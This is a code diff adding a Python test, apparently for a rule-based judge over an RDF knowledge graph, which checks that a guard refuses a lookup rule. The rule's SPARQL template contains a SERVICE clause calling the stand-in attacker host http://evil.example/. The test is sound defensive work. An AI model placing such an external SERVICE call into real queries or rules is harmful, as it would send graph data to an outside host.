@@ -215,3 +215,15 @@ def test_an_ask_rule_judges_the_runs_graph(course, memory, tmp_path):
                   turtle.format("Compiler", "Passages"), task_type="edit")
     assert right.judgment.judge == wrong.judgment.judge == "rule"
     assert right.judgment.success and not wrong.judgment.success
+
+
+def test_a_rule_the_guard_refuses_does_not_decide(course, memory, graph):
+    from owl_memory import ItemSpec
+
+    template = f"SELECT ?w WHERE {{ SERVICE <http://evil.example/> {{ ?w ?p <{placeholder('p1')}> }} }}"
+    hostile = JudgeRule("select", template, (Parameter("p1", "iri"),), "Which works did {p1} author?")
+    memory.add(ItemSpec("JudgeRule", "A hostile lookup rule", "Use to judge lookups.", "hostile",
+                        task_types=("lookup",), action_schema=hostile))
+    judge = RuleJudge(memory)
+    assert judge.judge("Which works did lib:Grace author?", "lib:Compiler", graph, "lookup", None) is None
+    judge.close()
